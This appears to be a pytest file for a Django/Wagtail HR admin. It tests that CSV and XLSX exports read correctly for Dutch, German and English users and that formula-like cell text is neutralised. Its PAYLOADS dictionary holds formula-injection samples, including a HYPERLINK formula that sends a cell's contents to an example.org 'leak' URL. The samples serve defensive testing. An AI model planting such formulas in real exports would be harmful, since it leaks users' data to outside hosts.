"""Every CSV and XLSX export of the admin, downloaded by a Dutch, a German and an English HR
adviser and read as their spreadsheet program reads it (tests/spreadsheets.py): the byte-order
mark and the separator of their Excel, the title row, the header row, dates, and no formula
in any cell, whatever HR's data holds."""

import datetime
import re
from types import SimpleNamespace

import pytest
from django.contrib.auth.models import Permission
from django.test import RequestFactory
from django.urls import reverse
from django.utils import translation
from wagtail import hooks
from wagtail.admin.views.mixins import SpreadsheetExportMixin as WagtailSpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets

from competencies.models import CompetenceStatus
from core.audit import audit_log
from core.spreadsheets import SpreadsheetExportMixin, csv_text, xlsx_value
from lms.models import AssignmentRule, Certificate, Enrolment
from lms.training.assignments import assignments_apply
from people.models import OrgUnit, RoleProfile
from tests.factories import module_create
from tests.spreadsheets import csv_rows, xlsx_sheet

pytestmark = pytest.mark.django_db

# What a spreadsheet program would run as a formula, typed into a name by someone.
PAYLOADS = {
    "coverage": '=HYPERLINK("https://example.org/?leak="&A3,"Details")',  # the organisation
    "coverage_names": "+31 6 12345678",  # a first name
    "compliance": '=HYPERLINK("https://example.org/?leak="&A3,"Details")',  # the organisation
    "audit_log": "@SUM(1+1)",  # the adviser's first name
    "certificates": "-2+3",  # the holder's name on the certificate
}

# The page title (the XLSX title row starts with it) and the first column's heading, as the
# gettext source; the test reads them in the adviser's language.
TITLES = {
    "coverage": ("Coverage", "Organisation unit"),
    "coverage_names": ("People behind a coverage figure", "Name"),
    "compliance": ("Mandatory training", "Organisation unit"),
    "audit_log": ("Audit log", "When"),
    "certificates": ("Certificates", "Number"),
}

COMPLETED_ON = datetime.date(2026, 3, 9)


@pytest.fixture
def exports(cast, catalogue):
    """The cast's organisation with something in every export, and a formula in every one of
    them. Returns the address of each export."""
    OrgUnit.objects.filter(pk=cast.organisation.pk).update(name=PAYLOADS["coverage"])
    cast.learner.user.first_name = PAYLOADS["coverage_names"]
    cast.learner.user.save(update_fields=["first_name"])
    cast.hr.first_name, cast.hr.last_name = PAYLOADS["audit_log"], "Adviseur"
    cast.hr.save(update_fields=["first_name", "last_name"])
    cast.hr.user_permissions.add(Permission.objects.get(codename="view_coverage_names"))

    module = module_create(catalogue, title="Veilig werken", lessons=1)
    AssignmentRule.objects.create(
        organisation=cast.organisation,
        name="Iedereen",
        role=RoleProfile.objects.get(code="ALL"),
        module=module,
        due_days=10,
    )
    assignments_apply()
    Certificate.objects.create(
        enrolment=Enrolment.objects.create(learner=cast.learner.user, module=module),
        scope=str(cast.organisation.pk),  # issued by the HR adviser's organisation
        number="2026-000042",
        public_id="export-test",
        holder_name=PAYLOADS["certificates"],
        module_title=module.title,
        completed_on=COMPLETED_ON,
    )
    audit_log(actor=cast.hr, action="exports.test", target=cast.organisation, note="=1+1")
    competence = (
        CompetenceStatus.objects.filter(employee=cast.learner, target_rank__isnull=False)
        .order_by("competence__code")
        .first()
        .competence
    )
    unit = cast.organisation.pk
    return {
        "coverage": reverse("competencies_coverage") + f"?unit={unit}&levels=1",
        "coverage_names": reverse("competencies_coverage_names")
        + f"?unit={unit}&competence={competence.pk}",
        "compliance": reverse("lms_compliance") + f"?unit={unit}&levels=1",
        "audit_log": reverse("core_audit_log") + "?action=exports.test",
        "certificates": reverse("certificate:index"),
    }


def _as(client, cast, language):
    cast.hr.preferred_language = language
    cast.hr.save(update_fields=["preferred_language"])
    client.force_login(cast.hr)


def _translated(text: str, language: str) -> str:
    with translation.override(language):
        return translation.gettext(text)


@pytest.mark.parametrize("language", ["nl", "de", "en"])
@pytest.mark.parametrize("export", list(PAYLOADS))
def test_every_csv_export_opens_in_the_readers_excel_and_runs_no_formula(
    client, cast, exports, export, language
):
    _as(client, cast, language)

    rows = csv_rows(client.get(_with(exports[export], "export=csv")), language)

    assert rows[0][0] == _translated(TITLES[export][1], language)
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'" + PAYLOADS[export]) for cell in cells), cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


@pytest.mark.parametrize("language", ["nl", "de", "en"])
@pytest.mark.parametrize("export", list(PAYLOADS))
def test_every_xlsx_export_has_its_title_row_headers_and_no_formula(
    client, cast, exports, export, language
):
    _as(client, cast, language)

    sheet = xlsx_sheet(client.get(_with(exports[export], "export=xlsx")))

    title, heading = TITLES[export]
    assert sheet.title.startswith(_translated(title, language) + ", ")
    assert re.search(r"\d\d-\d\d-\d{4} \d\d:\d\d$", sheet.title)  # when
    assert sheet.headings[0] == _translated(heading, language)
    texts = [value for row in sheet.rows for value in row if isinstance(value, str)]
    assert any(text.startswith("'" + PAYLOADS[export]) for text in texts), texts
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts), texts
    assert all(cell.data_type != "f" for row in sheet.worksheet.iter_rows() for cell in row)


def _with(url: str, parameter: str) -> str:
    return url + ("&" if "?" in url else "?") + parameter


def test_the_xlsx_title_names_the_filters_in_the_readers_language(client, cast, exports):
    _as(client, cast, "de")

    sheet = xlsx_sheet(client.get(_with(exports["compliance"], "export=xlsx")))
    unfiltered = xlsx_sheet(client.get(_with(exports["certificates"], "export=xlsx")))

    unit = _translated("Organisation unit", "de")
    assert sheet.title.startswith(
        f"{_translated('Mandatory training', 'de')}, gefiltert nach {unit}: {PAYLOADS['compliance']}"
    )
    assert "exportiert am" in sheet.title
    assert ", ohne Filter, exportiert am " in unfiltered.title


def test_the_certificate_register_gives_dates_as_dates(client, cast, exports):
    _as(client, cast, "nl")

    rows = csv_rows(client.get(_with(exports["certificates"], "export=csv")), "nl")
    sheet = xlsx_sheet(client.get(_with(exports["certificates"], "export=xlsx")))

    assert rows[1][3] == "09-03-2026"  # dd-mm-yyyy, whatever the language
    assert re.fullmatch(r"\d\d-\d\d-\d{4} \d\d:\d\d", rows[1][6])
    completed = sheet.worksheet.cell(row=3, column=4)
    issued = sheet.worksheet.cell(row=3, column=7)
    assert completed.is_date and completed.value.date() == COMPLETED_ON
    assert completed.number_format == "DD-MM-YYYY"
    assert issued.is_date and issued.number_format == "DD-MM-YYYY HH:MM"


class _Listing(SpreadsheetExportMixin):
    """The helper on its own, over plain rows."""

    list_export = ["number", "text", "share", "day", "moment", "empty"]
    export_title = "Proef"

    def __init__(self, request):
        self.request = request


def _items():
    return [
        SimpleNamespace(
            number=-5,
            text="-5",
            share=12.5,
            day=datetime.date(2026, 1, 2),
            moment=datetime.datetime(2026, 1, 2, 9, 30, tzinfo=datetime.UTC),
            empty=None,
        ),
        SimpleNamespace(number=7, text="\t=1", share=0.5, day=None, moment=None, empty="\r@x"),
    ]


@pytest.mark.parametrize(
    "language, shares", [("nl", ("12,5", "0,5")), ("de", ("12,5", "0,5")), ("en", ("12.5", "0.5"))]
)
def test_numbers_stay_numbers_and_texts_that_look_like_formulas_do_not(language, shares):
    request = RequestFactory().get("/")
    with translation.override(language):
        response = _Listing(request).as_spreadsheet(_items(), "csv")
        rows = csv_rows(response, language)
        sheet = xlsx_sheet(_Listing(request).as_spreadsheet(_items(), "xlsx"))

    # Amsterdam and Berlin are an hour ahead of UTC in January.
    assert rows[1] == ["-5", "'-5", shares[0], "02-01-2026", "02-01-2026 10:30", ""]
    assert rows[2] == ["7", "'\t=1", shares[1], "", "", "'\r@x"]
    first = sheet.worksheet[3]
    assert first[0].value == -5 and first[0].data_type == "n"
    assert first[1].value == "'-5" and first[2].value == 12.5
    assert first[3].is_date and first[4].is_date


def test_the_cell_helpers_neutralise_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(start + "1") == "'" + start + "1"
        assert xlsx_value(start + "1") == "'" + start + "1"
    assert csv_text("Gemeente") == "Gemeente" and xlsx_value(-1.5) == -1.5


def _our_admin_views() -> dict:
    """URL name → view class of every admin address our apps (core included) register."""
    reverse("wagtailadmin_home")  # loads the URLconf, which registers the viewsets
    ours = {"config", "core", "people", "competencies", "content", "lms"}
    patterns = [
        (pattern.name, pattern)
        for hook in hooks.get_hooks("register_admin_urls")
        if hook.__module__.split(".")[0] in ours
        for pattern in hook()
    ] + [
        (f"{viewset.url_namespace}:{pattern.name}", pattern)
        for viewset in viewsets.viewsets
        if type(viewset).__module__.split(".")[0] in ours
        for pattern in viewset.get_urlpatterns()
    ]
    return {
        name: pattern.callback.view_class
        for name, pattern in patterns
        if hasattr(pattern.callback, "view_class")
    }


def test_every_export_of_our_admin_goes_through_the_one_helper():
    exporting = {
        name: view
        for name, view in _our_admin_views().items()
        if issubclass(view, WagtailSpreadsheetExportMixin)
    }

    assert set(PAYLOADS) and {
        "competencies_coverage",
        "competencies_coverage_names",
        "lms_compliance",
        "core_audit_log",
        "certificate:index",
        "employee:index",  # the viewsets' lists too
    } <= set(exporting)
    assert [
        name for name, view in exporting.items() if not issubclass(view, SpreadsheetExportMixin)
    ] == []
